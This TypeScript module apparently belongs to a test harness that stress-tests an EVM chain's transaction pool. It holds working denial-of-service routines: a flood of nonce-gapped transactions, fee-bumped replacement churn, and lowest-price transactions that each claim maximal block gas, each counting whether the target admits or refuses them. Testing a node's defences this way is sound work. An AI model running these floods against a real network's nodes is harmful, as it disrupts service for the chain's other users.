/** Attacks on the pool: transactions that wait forever, that replace each other, or that claim whole blocks. */
import type { Hex } from 'viem'
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
import {
  type Attack,
  attackerKey,
  type Count,
  call,
  callAt,
  failureOf,
  pause,
  result,
  type Target,
  withinLimits,
} from './target.ts'

/** The lowest price of the chain. */
export const LOWEST_PRICE_WEI = 10n ** 12n
/** The most gas that a transaction can have (EIP-7825). */
export const MOST_GAS = 2n ** 24n
/** Waiting transactions of one sender. */
const SLOTS = 7

const transfer = { to: `0x${'57'.repeat(20)}`, value: 1n, gas: 21_000n, type: 'legacy' } as const

/** Returns creation code that pays an amount to each address. */
function paying(addresses: readonly Hex[], amountWei: bigint): Hex {
  const amount = amountWei.toString(16).padStart(20, '0')
  // Four PUSH0, PUSH10 amount, PUSH20 address, PUSH0, CALL, POP.
  return `0x${addresses.map((address) => `5f5f5f5f69${amount}73${address.slice(2)}5ff150`).join('')}`
}

/** Addresses that one creation can pay. */
const MOST_PAID = 400

/** Creates accounts with funds of one attacker. */
async function fundedKeys(target: Target, funder: Hex, number: number, amountWei: bigint): Promise<readonly Hex[]> {
  const keys = Array.from({ length: number }, generatePrivateKey)
  const addresses = keys.map((key) => privateKeyToAccount(key).address)
  for (let from = 0; from < number; from += MOST_PAID) {
    const paid = addresses.slice(from, from + MOST_PAID)
    const raw = await privateKeyToAccount(funder).signTransaction({
      data: paying(paid, amountWei),
      value: amountWei * BigInt(paid.length),
      gas: MOST_GAS,
      gasPrice: LOWEST_PRICE_WEI,
      nonce: await withinLimits(() => nextNonce(target, funder)),
      chainId: target.config.evm_chain_id,
      type: 'legacy',
    })
    const hash = await withinLimits(() => result<Hex>(target, 'eth_sendRawTransaction', [raw]))
    await untilIncluded(target, hash)
  }
  return keys
}

async function untilIncluded(target: Target, hash: Hex): Promise<void> {
  for (;;) {
    const receipt = await withinLimits(() =>
      result<{ status: Hex } | null>(target, 'eth_getTransactionReceipt', [hash]),
    )
    if (receipt?.status === '0x1') return
    if (receipt) throw new Error('the accounts were not funded')
    await new Promise((done) => setTimeout(done, 50))
  }
}

interface Sent {
  readonly nonce: number
  readonly gasPrice: bigint
  readonly gas?: bigint
}

const sign = ({ config }: Target, key: Hex, sent: Sent): Promise<Hex> =>
  privateKeyToAccount(key).signTransaction({ ...transfer, chainId: config.evm_chain_id, ...sent })

/** Sends transactions in one batch and counts those that the pool admits. */
async function submit(target: Target, raws: readonly Hex[], count: Count): Promise<void> {
  const batch = raws.map((raw, id) => call('eth_sendRawTransaction', [raw], id))
  const answers = await callAt<{ error?: object }[]>(target, target.config.urls.jsonrpc, batch)
  for (const { error } of answers) count(error ? 'refused' : 'admitted')
}

/** 5,012 transactions of 716 accounts behind a gap of nonces, sent again and again. */
export const gappedTransactions: Attack = async (target) => {
  const keys = await fundedKeys(target, attackerKey(target, 1), 716, 10n ** 18n)
  const slots = keys.flatMap((key) => Array.from({ length: SLOTS }, (_, i) => ({ key, nonce: 1 + i })))
  const signed = new Map<object, Promise<Hex>>()
  const rawOf = (slot: (typeof slots)[number]): Promise<Hex> => {
    let raw = signed.get(slot)
    if (!raw) {
      raw = sign(target, slot.key, { nonce: slot.nonce, gasPrice: LOWEST_PRICE_WEI * 5n })
      signed.set(slot, raw)
    }
    return raw
  }
  // With blocks on arrival the node waits a moment for the block of each transaction, so that one connection fills the pool slowly.
  let from = 0
  const lane = async (stop: AbortSignal, count: Count): Promise<void> => {
    while (!stop.aborted) {
      const part = slots.slice(from, from + 20)
      from = (from + 20) % slots.length
      await submit(target, await Promise.all(part.map(rawOf)), count).catch((error) => count(failureOf(error)))
      await pause(stop, 20)
    }
  }
  return async (stop, count) => {
    await Promise.all(Array.from({ length: 20 }, () => lane(stop, count)))
  }
}

/** Batches of 119 transactions of a new account that replace each other. */
export const replacements: Attack = async (target) => {
  const keys = await fundedKeys(target, attackerKey(target, 2), 200, 10n ** 18n)
  return async (stop, count) => {
    for (let turn = 0; !stop.aborted; turn++) await replaceAll(target, keys[turn % keys.length]!, stop, count)
  }
}

async function replaceAll(target: Target, key: Hex, stop: AbortSignal, count: Count): Promise<void> {
  const raws: Hex[] = []
  for (let i = 0; i < 17; i++) {
    const gasPrice = (LOWEST_PRICE_WEI * 112n ** BigInt(i)) / 100n ** BigInt(i)
    for (let nonce = 1; nonce <= SLOTS; nonce++) raws.push(await sign(target, key, { nonce, gasPrice }))
  }
  await submit(target, raws, count).catch((error) => count(failureOf(error)))
  await pause(stop, 200)
}

/** Returns the next nonce of an account, waiting transactions included. */
const nextNonce = async (target: Target, key: Hex): Promise<number> =>
  Number(await result<Hex>(target, 'eth_getTransactionCount', [privateKeyToAccount(key).address, 'pending']))

/** Transactions of one account at the lowest price that claim a quarter of a block each and use a transfer's gas. */
export const claimedBlocks: Attack = async (target) => async (stop, count) => {
  const key = attackerKey(target, 3)
  const claim = async (): Promise<void> => {
    const first = await nextNonce(target, key)
    const raws = Array.from({ length: SLOTS }, (_, i) =>
      sign(target, key, { nonce: first + i, gasPrice: LOWEST_PRICE_WEI, gas: MOST_GAS }),
    )
    await submit(target, await Promise.all(raws), count)
  }
  while (!stop.aborted) {
    await claim().catch((error) => count(failureOf(error)))
    await pause(stop, 500)
  }
}

/** Sends a creation from each account once a period, with the most gas and the lowest price, until the signal aborts. */
export async function sendCreations(
  target: Target,
  stop: AbortSignal,
  count: Count,
  { code, keys, periodMs }: { code: Hex; keys: readonly Hex[]; periodMs: number },
): Promise<void> {
  const create = async (key: Hex): Promise<void> => {
    const raw = await privateKeyToAccount(key).signTransaction({
      data: code,
      gas: MOST_GAS,
      gasPrice: LOWEST_PRICE_WEI,
      nonce: await nextNonce(target, key),
      chainId: target.config.evm_chain_id,
      type: 'legacy',
    })
    await submit(target, [raw], count)
  }
  while (!stop.aborted) {
    for (const key of keys) void create(key).catch((error) => count(failureOf(error)))
    await pause(stop, periodMs)
  }
}
